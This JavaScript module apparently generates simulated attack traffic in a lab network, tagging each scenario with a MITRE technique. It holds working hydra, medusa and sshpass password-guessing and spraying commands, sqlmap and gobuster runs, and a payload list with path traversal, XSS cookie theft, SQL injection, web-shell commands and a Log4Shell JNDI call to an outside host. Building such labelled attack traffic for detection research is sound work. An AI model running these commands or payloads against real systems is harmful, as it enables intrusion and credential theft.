/** Guessing of passwords, and attacks on web applications; for what an attack has see probes.mjs. */
import { writeFileSync } from 'node:fs';
import { pause, perform } from '../record/programs.mjs';
import { FOLDER } from '../site/network.mjs';

const TCP = 6;
const WORDS = `${FOLDER}/words`;
const USERS = `${FOLDER}/users`;

const listOf = (path, count, wordOf) => {
  writeFileSync(path, Array.from({ length: count }, (_, i) => `${wordOf(i)}\n`).join(''));
  return path;
};
const words = (count) =>
  listOf(WORDS, count, (i) => `${['summer', 'letmein', 'admin', 'qwerty', 'weir'][i % 5]}${i * 7}`);

const on = (victim, port) => ({
  victims: (c) => [c.ip(victim)],
  flows: (c) => [{ from: c.attacker, to: c.ip(victim), protocol: TCP, port }],
});
const guessing = { family: 'bruteForce', technique: 'T1110.001' };
const FORM = "'/app/login:user=^USER^&password=^PASS^:wrong user'";

/** One guess at a time, with a new connection and a pause: each user with the same password. */
async function spray(c, host) {
  for (let i = 0; i < c.n(24, 14); i++) {
    const login = `sshpass -p Winter2026 ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no`;
    await perform(host, `timeout 10 ${login} user${i}@${c.ip('files')} true`);
    await pause(700);
  }
}

const TRAVERSALS = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  'index.php?page=....//....//....//etc/passwd',
  '?q=<script>alert(document.cookie)</script>',
  'app/items?id=1%27%20OR%20%271%27=%271',
  'app/items?id=1%20UNION%20SELECT%20user,password%20FROM%20users--',
  'cgi-bin/.%2e/.%2e/.%2e/bin/sh',
  '.git/config',
  'wp-login.php',
  'shell.jsp?cmd=cat%20/etc/passwd',
  '?x=${jndi:ldap://203.0.113.66/a}',
  'phpmyadmin/index.php',
];

async function craftedRequests(c, host) {
  for (let i = 0; i < c.n(4, 1); i++) {
    for (const path of TRAVERSALS) {
      await perform(
        host,
        `curl -sg --path-as-is -o /dev/null --max-time 5 'http://${c.ip('web')}/${path.replaceAll(' ', '%20')}'`,
      );
      await pause(300);
    }
  }
}

export const GUESSES = [
  {
    name: 'guess-ssh',
    what: 'passwords of one user over SSH, four connections at a time',
    tool: 'hydra',
    ...guessing,
    line: (c) => `hydra -q -I -t 4 -l guest -P ${words(c.n(80, 30))} ssh://${c.ip('files')}`,
    ...on('files', 22),
  },
  {
    name: 'spray-ssh',
    what: 'one password for many users over SSH, one after another',
    tool: 'sshpass, ssh',
    family: 'bruteForce',
    technique: 'T1110.003',
    run: spray,
    ...on('files', 22),
  },
  {
    name: 'guess-ftp',
    what: 'passwords over FTP',
    tool: 'hydra',
    ...guessing,
    line: (c) =>
      `hydra -q -I -t 6 -L ${listOf(USERS, 4, (i) => `user${i}`)} -P ${words(c.n(30, 10))} ftp://${c.ip('files')}`,
    ...on('files', 21),
  },
  {
    name: 'guess-ftp-medusa',
    what: 'passwords over FTP, another program',
    tool: 'medusa',
    ...guessing,
    line: (c) => `medusa -h ${c.ip('files')} -u admin -P ${words(c.n(60, 24))} -M ftp -t 4`,
    ...on('files', 21),
  },
  {
    name: 'guess-basic',
    what: 'passwords of a page over HTTP',
    tool: 'hydra',
    ...guessing,
    line: (c) => `hydra -q -I -t 4 -l guest -P ${words(c.n(300, 80))} http-get://${c.ip('web')}/private/`,
    ...on('web', 80),
  },
  {
    name: 'guess-form',
    what: 'passwords in a form over HTTP',
    tool: 'hydra',
    ...guessing,
    line: (c) => `hydra -q -I -t 4 -l guest -P ${words(c.n(200, 60))} ${c.ip('web')} http-post-form ${FORM}`,
    ...on('web', 80),
  },
  {
    name: 'web-injection',
    what: 'SQL injection into a search',
    tool: 'sqlmap',
    family: 'webAttack',
    technique: 'T1190',
    line: (c) =>
      `timeout ${c.n(60, 25)} sqlmap -u 'http://${c.ip('web')}/app/items?id=1' --batch --technique=${c.n('BEUT', 'BE')} --output-dir=${FOLDER}/sqlmap --disable-coloring`,
    ...on('web', 80),
  },
  {
    name: 'web-words',
    what: 'pages that may be there, by a list of words',
    tool: 'gobuster',
    family: 'webAttack',
    technique: 'T1595.003',
    line: (c) =>
      `gobuster dir -q -t 5 -u http://${c.ip('web')}/ -w ${listOf(WORDS, c.n(2500, 500), (i) => `page${i * 3}`)}`,
    ...on('web', 80),
  },
  {
    name: 'web-requests',
    what: 'requests that try to leave the folder, run commands and inject scripts',
    tool: 'curl',
    family: 'webAttack',
    technique: 'T1190',
    run: craftedRequests,
    ...on('web', 80),
  },
];
